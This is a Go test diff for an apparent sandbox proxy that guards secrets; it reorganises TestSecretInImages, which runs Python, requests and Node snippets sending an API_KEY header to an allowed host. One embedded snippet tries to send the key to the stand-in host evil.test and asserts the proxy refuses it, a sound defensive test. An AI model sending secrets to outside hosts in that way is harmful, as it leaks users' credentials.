@@ -520,9 +520,6 @@ func TestProxy(t *testing.T) {
 
 // TestSecretInImages has programs of images, which trust nobody or only what they brought, trust the sandbox's authority.
 func TestSecretInImages(t *testing.T) {
-	if !inPrivate(t) {
-		return
-	}
 	const python = `import os, ssl, urllib.request as u
 r = u.Request("https://api.good.test/python", headers={"X-Key": os.environ["API_KEY"]})
 print(u.urlopen(r).read().decode())
@@ -537,7 +534,7 @@ for _ in range(2): print(s.post(host, json={"a": "b"}).text)
 bad = requests.get("https://evil.test/", headers={"X-Key": key})
 assert bad.status_code == 403 and "secret API_KEY may not go to evil.test" in bad.text, bad.text`
 	const node = `require("https").get("https://api.good.test/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))`
-	for name, x := range map[string]struct {
+	tests := map[string]struct {
 		image   func(testing.TB) v1.Image
 		command []string
 		times   int
@@ -545,11 +542,18 @@ assert bad.status_code == 403 and "secret API_KEY may not go to evil.test" in ba
 		"python":   {testimage.Python, []string{"python3", "-c", python}, 2},
 		"requests": {testimage.Requests, []string{"python3", "-c", requests}, 3},
 		"node":     {testimage.Node, []string{"node", "-e", node}, 1},
-	} {
+	}
+	images := map[string]v1.Image{}
+	for name, x := range tests {
+		images[name] = x.image(t) // out here there is a network to make it
+	}
+	if !inPrivate(t) {
+		return
+	}
+	for name, x := range tests {
 		t.Run(name, func(t *testing.T) {
-			img := x.image(t)
 			each(t, func(w *world) {
-				ref := testimage.Serve(w.t, testimage.Options{}).Push(w.t, name, img)
+				ref := testimage.Serve(w.t, testimage.Options{}).Push(w.t, name, images[name])
 				w.ok("pull", "-q", ref)
 				s := w.space()
 				site := s.secure()
